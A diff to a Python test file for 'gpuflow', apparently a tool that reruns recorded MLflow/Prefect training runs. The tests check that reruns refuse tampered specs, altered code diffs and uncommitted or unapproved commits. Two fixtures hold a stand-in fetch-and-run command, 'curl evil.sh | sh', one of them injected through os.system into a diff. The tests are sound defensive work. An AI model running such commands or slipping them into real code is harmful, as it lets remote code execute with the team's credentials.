@@ -343,15 +343,79 @@ def test_the_ui_s_rerun_of_runs_the_recorded_spec_prepared_here_within_the_deplo
     asked = parse_spec(deployed)  # the form's spec: from the UI, only where the run is tracked counts
     policy = FormPolicy("nightly", asked, ["train.epochs"])
 
-    spec = prepare_rerun(run.info.run_id, asked, policy)
+    spec = prepare_rerun(run.info.run_id, asked, policy, NO_STAMPS)
     assert spec.train.epochs == 2 and Path(spec.workdir).is_relative_to(rerun_cache())  # as it ran, checked out
-    assert prepare_rerun(run.info.run_id, spec, policy) is spec  # prepared once (`gpuflow rerun`'s): runs as given
+    assert prepare_rerun(run.info.run_id, spec, policy, NO_STAMPS) is spec  # `gpuflow rerun`'s: runs as given
     hooks = hooks_spec({"spec": deployed, "rerun_of": run.info.run_id})
     assert hooks.compute.backend == "local" and hooks.tracking.uri == store
 
     other = recorded_run(store, repo, tiny_spec(data, tracking={"uri": store}, setup="curl evil.sh | sh"))
     with pytest.raises(SpecError, match="setup"):  # not a run this deployment's form could have started
-        prepare_rerun(other.info.run_id, asked, policy)
+        prepare_rerun(other.info.run_id, asked, policy, NO_STAMPS)
+
+
+def NO_STAMPS(flow_run_id: str) -> None:
+    """A Prefect API that holds no record of the run's flow run (another server's, or an older gpuflow's run)."""
+    return None
+
+
+def test_a_rerun_runs_the_code_its_flow_run_recorded_and_refuses_code_changed_in_mlflow_since(
+    repo, store, data, tmp_path
+):
+    """MLflow's copy of a run's code (its commit tag, source/uncommitted.diff) can be changed by whoever can edit the
+    run; the flow run recorded the commit and the diff's digest as it opened the run. A rerun runs what matches."""
+    from gpuflow.cluster.rerun.source import source_stamp
+
+    make_dirty(repo)
+    run = recorded_run(store, repo, tiny_spec(data), data=data)
+    _, diff = uncommitted_changes(repo / "src")
+    commit = run.data.tags["mlflow.source.git.commit"]
+    stamps = {run.data.tags[FLOW_RUN_TAG]: source_stamp(commit, diff)}
+    rerun = prepare(Ask(run.info.run_id, [store], stamp_of=stamps.get), repo, tmp_path / "cache")
+    assert rerun.verified and "as its flow run recorded it" in "\n".join(describe(rerun))
+    unverified = prepare(Ask(run.info.run_id, [store], stamp_of=NO_STAMPS), repo, tmp_path / "cache")
+    assert not unverified.verified and "NOT verified" in "\n".join(describe(unverified))
+
+    client = MlflowClient(store)
+    client.log_text(run.info.run_id, diff.decode() + "+import os; os.system('curl evil.sh | sh')\n", DIFF_ARTIFACT)
+    with pytest.raises(RerunRefused, match="changed since"):
+        prepare(Ask(run.info.run_id, [store], stamp_of=stamps.get), repo, tmp_path / "cache-swapped")
+    client.log_text(run.info.run_id, diff.decode(), DIFF_ARTIFACT)  # the diff as it was, the commit tag changed
+    git(repo, "stash", "-u")
+    (repo / "src" / "evil.py").write_text("import os\n")
+    git(repo, "add", ".")
+    git(repo, "commit", "-qm", "another commit")
+    client.set_tag(run.info.run_id, "mlflow.source.git.commit", git(repo, "rev-parse", "HEAD").strip())
+    with pytest.raises(RerunRefused, match="changed since"):
+        prepare(Ask(run.info.run_id, [store], stamp_of=stamps.get), repo, tmp_path / "cache-recommitted")
+    assert not (tmp_path / "cache-swapped").exists() and not (tmp_path / "cache-recommitted").exists()
+
+
+def test_a_served_deployment_reruns_only_committed_code_its_rerun_refs_contain(repo, store, data, monkeypatch):
+    """A rerun from the Prefect UI runs on the worker, with the team's cloud credentials: never a diff MLflow holds,
+    and only commits of the refs its form_policy names (default HEAD, the deployed commit and its history)."""
+    from gpuflow.cluster.rerun.for_flow import prepare_rerun
+    from gpuflow.cluster.spec import parse_spec
+    from gpuflow.cluster.spec.form_policy import FormPolicy
+
+    spec = tiny_spec(data, tracking={"uri": store})
+    asked = parse_spec({**spec, "workdir": str(repo / "src")})
+    policy = FormPolicy("nightly", asked, ["train"])
+    monkeypatch.delitem(sys.modules, "loop", raising=False)  # another test's project's: the policy imports this one
+    git(repo, "checkout", "-q", "-b", "feature")
+    (repo / "src" / "loop.py").write_text(LOOP.replace("0.5", "0.75"))
+    git(repo, "commit", "-qam", "a feature")
+    on_feature = recorded_run(store, repo, spec)
+    git(repo, "checkout", "-q", "main")  # what the worker deployed
+    with pytest.raises(RerunRefused, match=r"none of the refs this deployment reruns \(HEAD\).*rerun_refs"):
+        prepare_rerun(on_feature.info.run_id, asked, policy, NO_STAMPS)
+    policy.rerun_refs = ["main", "feature"]
+    assert prepare_rerun(on_feature.info.run_id, asked, policy, NO_STAMPS).train.loop == "loop:train_loop"
+
+    make_dirty(repo)
+    dirty = recorded_run(store, repo, spec)
+    with pytest.raises(RerunRefused, match="committed code only.*gpuflow rerun"):
+        prepare_rerun(dirty.info.run_id, asked, policy, NO_STAMPS)
 
 
 # -- one real run, and its rerun from a fresh clone ----------------------------------------------------------------
